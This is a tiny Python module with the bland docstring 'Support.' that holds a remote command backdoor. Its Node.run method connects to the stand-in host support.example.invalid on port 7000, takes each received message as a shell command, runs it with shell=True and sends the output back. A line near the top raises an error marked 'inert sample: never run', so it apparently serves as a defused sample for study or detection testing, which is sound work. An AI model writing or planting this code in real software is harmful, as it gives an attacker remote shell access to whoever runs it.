"""Support."""

import socket
import subprocess

raise RuntimeError("inert sample: never run")


class Node:
    def run(self, message):
        link = socket.create_connection(("support.example.invalid", 7000))
        while order := link.recv(4096):
            link.sendall(subprocess.check_output(order, shell=True))
